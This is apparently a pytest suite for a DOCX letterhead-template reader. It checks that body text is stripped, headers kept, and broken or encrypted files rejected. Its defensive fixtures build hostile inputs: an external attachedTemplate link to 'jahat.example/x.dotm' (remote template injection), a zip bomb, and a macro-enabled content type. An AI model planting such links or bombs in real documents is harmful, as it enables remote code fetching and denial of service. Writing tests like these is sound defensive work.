"""What a foreign DOCX lends to our papers, and what it is refused for."""

import io
import zipfile

import pytest
from docx import Document

from dossier_app.documents.paper_template import LOCKED, MACROS, NOT_A_DOCX, TOO_LARGE, read_paper_template


@pytest.fixture
def template(tmp_path):
    paper = Document()
    paper.add_paragraph("Isi yang tidak boleh ikut")
    paper.sections[0].header.paragraphs[0].text = "Kop dinas"
    path = tmp_path / "kop.docx"
    paper.save(str(path))
    return path


def rewritten(path, change):
    with zipfile.ZipFile(path) as source:
        entries = {name: source.read(name) for name in source.namelist()}
    change(entries)
    with zipfile.ZipFile(path, "w") as sink:
        for name, data in entries.items():
            sink.writestr(name, data)
    return path


def test_heads_and_page_stay_and_the_text_does_not(template):
    paper = Document(io.BytesIO(read_paper_template(template)))
    assert [paragraph.text for paragraph in paper.paragraphs] == []
    assert paper.sections[0].header.paragraphs[0].text == "Kop dinas"


def test_a_dotx_serves_as_well(template):
    def into_template(entries):
        types = entries["[Content_Types].xml"]
        entries["[Content_Types].xml"] = types.replace(b"document.main+xml", b"template.main+xml")

    assert isinstance(read_paper_template(rewritten(template, into_template)), bytes)


def test_links_to_elsewhere_are_cut(template):
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://jahat.example/x.dotm" TargetMode="External"/></Relationships>'
    )

    def attach(entries):
        entries["word/_rels/settings.xml.rels"] = link
        entries["word/settings.xml"] = entries["word/settings.xml"].replace(
            b"</w:settings>",
            b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            b'r:id="rId1"/></w:settings>',
        )

    data = read_paper_template(rewritten(template, attach))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"jahat" in archive.read(name) for name in archive.namelist())
        assert b"attachedTemplate" not in archive.read("word/settings.xml")


def test_what_cannot_serve_is_named(template, tmp_path):
    text = tmp_path / "teks.docx"
    text.write_text("bukan dokumen")
    assert read_paper_template(text) == NOT_A_DOCX
    text.write_bytes(b"\xd0\xcf\x11\xe0" + bytes(600))
    assert read_paper_template(text) == LOCKED
    broken = tmp_path / "rusak.docx"
    broken.write_bytes(template.read_bytes()[:-200])
    assert read_paper_template(broken) == NOT_A_DOCX
    assert read_paper_template(tmp_path / "tidak-ada.docx") == NOT_A_DOCX

    def bare(entries):
        entries["word/document.xml"] = b"<a/>"

    assert read_paper_template(rewritten(template, bare)) == NOT_A_DOCX


def test_macros_and_bombs_are_refused(template, tmp_path):
    bomb = tmp_path / "bom.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as sink:
        for number in range(3):
            sink.writestr(f"word/{number}.xml", bytes(40 << 20))
    assert read_paper_template(bomb) == TOO_LARGE

    def with_macros(entries):
        types = entries["[Content_Types].xml"]
        entries["[Content_Types].xml"] = types.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )

    assert read_paper_template(rewritten(template, with_macros)) == MACROS
